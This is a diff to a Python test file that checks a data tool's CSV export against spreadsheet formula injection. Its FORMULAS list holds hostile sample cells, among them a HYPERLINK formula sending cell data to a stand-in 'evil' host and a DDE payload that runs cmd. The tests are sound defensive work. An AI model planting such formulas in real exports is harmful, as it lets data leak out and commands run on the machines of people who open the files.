@@ -17,7 +17,7 @@ import pyarrow.parquet as pq
 import pytest
 
 from datagen.errors import DataError, UsageError
-from datagen.reviews import Judgement, Review, share
+from datagen.reviews import Judgement, Review, guarded, share, unguarded
 from datagen.rows import row_id
 
 ROWS = [{"instruction": f"Name the colour of thing {i}.", "output": f"It is colour {i}."} for i in range(12)]
@@ -155,3 +155,48 @@ def test_the_interval_is_wilsons() -> None:
     assert share(0, 0) == (0.0, 0.0, 1.0)
     part, low, high = share(8, 10)
     assert (part, round(low, 4), round(high, 4)) == (0.8, 0.4902, 0.9433)
+
+
+# What a spreadsheet would run, in the ways that a cell can begin.
+FORMULAS = [
+    '=HYPERLINK("http://evil/"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3\ttab", "\t=1+1", "\r=1+1", " \u00a0=1+1",
+    "\n\n@x",     "＝1+1", "＋1", "－1", "＠x", "\u200b=1", "'=already", "''=twice", "\tplain", "- a list\n- of two",
+]  # fmt: skip
+PLAIN = ["plain", "'quoted' text", "'", "1-1=0", "", "a\n=b", "ไทย", "汉字：＝", "'tis"]
+
+
+@pytest.mark.parametrize("text", [*FORMULAS, *PLAIN])
+def test_no_cell_is_a_formula_and_every_text_comes_back(text: str) -> None:
+    cell = guarded(text)
+    assert unguarded(cell) == text
+    assert cell == (f"'{text}" if text in FORMULAS else text)
+    assert cell.lstrip(" \t\r\n\u00a0\u200b")[:1] not in tuple("=+-@＝＋－＠")
+
+
+def test_a_csv_of_formulas_is_neutral_and_its_decisions_come_back(datagen: Any, write_jsonl: Any, tmp_path: Path) -> None:
+    rows = [
+        {"instruction": text, "input": f" {text}", "output": f"{text} {n}"} for n, text in enumerate(FORMULAS) if text.strip()
+    ]
+    write_jsonl("rows.jsonl", *rows)
+    assert datagen("filter", "rows.jsonl", "-o", "out", "--stage", "rules").returncode == 0
+    review = Review(tmp_path / "out")
+    first, second, third, *rest = review.sample(len(rows), 17)
+    review.judge(Judgement(first["id"], "edit", "=note", "=edited", "", "+answer"))
+    assert review.export(tmp_path / "r.csv", [first, second, third, *rest]) == len(rows)
+    with (tmp_path / "r.csv").open(encoding="utf-8-sig", newline="") as f:
+        lines = list(csv.DictReader(f))
+    assert not [v for line in lines for v in line.values() if v.lstrip()[:1] in tuple("=+-@＝＋－＠") and v.strip()]
+    assert review.take(tmp_path / "r.csv")[0] == 0  # nothing was changed: no edit comes of the apostrophes
+    lines[1].update(decision="accept", note="-fine")
+    lines[2].update(decision="edit", output=f"{lines[2]['output']} and more")
+    lines[3]["instruction"] = rest[0]["instruction"]  # a spreadsheet that took the apostrophe off
+    with (tmp_path / "r.csv").open("w", encoding="utf-8", newline="") as f:
+        writer = csv.DictWriter(f, lines[0].keys())
+        writer.writeheader()
+        writer.writerows(lines)
+    assert review.take(tmp_path / "r.csv")[0] == 2
+    judged = review.judged
+    assert judged[first["id"]] == Judgement(first["id"], "edit", "=note", "=edited", "", "+answer")
+    assert judged[second["id"]] == Judgement(second["id"], "accept", "-fine")
+    edit = judged[third["id"]]
+    assert (edit.instruction, edit.input, edit.output) == (third["instruction"], third["input"], f"{third['output']} and more")
